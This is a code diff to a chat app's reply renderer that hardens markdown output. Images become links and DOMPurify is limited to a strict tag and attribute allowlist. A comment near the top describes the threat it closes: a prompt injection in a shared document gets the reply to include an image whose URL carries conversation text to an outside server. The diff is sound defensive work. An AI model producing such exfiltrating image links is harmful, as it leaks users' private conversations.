@@ -1,6 +1,13 @@
 // A reply's text to safe DOM: markdown (markdown-it, raw HTML off), then DOMPurify, code blocks
-// highlighted (highlight.js) with their language and a copy button, and each [n] that names one of
-// the reply's sources turned into a link. Libraries: static/vendor/ (README there).
+// highlighted (highlight.js) with their language and a copy button, images shown as links, and each
+// [n] that names one of the reply's sources turned into a link. Libraries: static/vendor/ (README there).
+//
+// Nothing in a reply is fetched as it renders. A reply can repeat a prompt injection from a shared
+// document, and an image's URL (`![x](https://elsewhere/?q=conversation text)`) would carry the
+// conversation to that server the moment the <img> appeared. Same-origin images would be safe from
+// that, but a reply has none to show: an image is a link the user may follow, and DOMPurify keeps
+// only the tags and attributes markdown makes, none of which fetches (the page's
+// Content-Security-Policy, img-src 'self', is the third line).
 window.ChatRender = (() => {
   "use strict";
   const md = window.markdownit({html: false, linkify: true, breaks: false});
@@ -22,6 +29,16 @@ window.ChatRender = (() => {
       `<pre><code class="hljs">${code}</code></pre></div>`;
   };
 
+  // An image is a link to it, labelled with its alt text: never an <img>, so never fetched.
+  md.renderer.rules.image = (tokens, index, options, env, self) => {
+    const token = tokens[index];
+    const src = token.attrGet("src");
+    const title = token.attrGet("title");
+    const alt = self.renderInlineAsText(token.children, options, env);
+    return `<a class="image-link" href="${escape(src)}"${title ? ` title="${escape(title)}"` : ""}>` +
+      `Image: ${escape(alt || src)}</a>`;
+  };
+
   // Links open in a new tab and tell the target nothing.
   DOMPurify.addHook("afterSanitizeAttributes", (node) => {
     if (node.tagName === "A" && node.hasAttribute("href")) {
@@ -29,7 +46,18 @@ window.ChatRender = (() => {
       node.setAttribute("rel", "noopener noreferrer nofollow");
     }
   });
-  const PURIFY = {RETURN_DOM_FRAGMENT: true, FORBID_TAGS: ["style", "form", "input", "textarea", "select"], FORBID_ATTR: ["style"]};
+  // Only what markdown-it and the fence rule above produce. Everything that can fetch is left out:
+  // img, picture/source, video/audio (and poster), object/embed/iframe, link/meta/style, svg/math
+  // (<image>, <use>, <feImage>), and the srcset, background, ping and style attributes.
+  const PURIFY = {
+    RETURN_DOM_FRAGMENT: true,
+    ALLOWED_TAGS: [
+      "a", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "em", "strong", "s", "code", "pre",
+      "blockquote", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "button",
+    ],
+    ALLOWED_ATTR: ["href", "title", "class", "start", "type", "aria-label"],
+    ALLOW_DATA_ATTR: false,
+  };
 
   // [n] in text (not in code or links) becomes a link to source n, if the reply has one.
   function linkCitations(fragment, sources, open) {
